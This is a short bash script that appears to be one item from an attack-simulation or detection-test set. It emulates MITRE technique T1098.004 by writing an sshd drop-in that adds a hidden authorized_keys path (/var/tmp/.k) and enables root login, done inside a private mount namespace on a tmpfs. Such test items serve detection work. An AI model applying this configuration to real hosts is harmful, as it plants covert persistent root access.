#!/usr/bin/env bash
# attack: T1098.004 Point sshd at a second authorized_keys file through a drop-in (on a tmpfs over /etc/ssh, in a private mount namespace)
# set: unseen2
. "$(dirname "$0")/lib/common.sh"
unshare -m bash -c "mount --make-rprivate / && mount -t tmpfs none /etc/ssh && mkdir -p /etc/ssh/sshd_config.d &&
	printf 'AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k\nPermitRootLogin yes\n' >/etc/ssh/sshd_config.d/00-keys.conf"
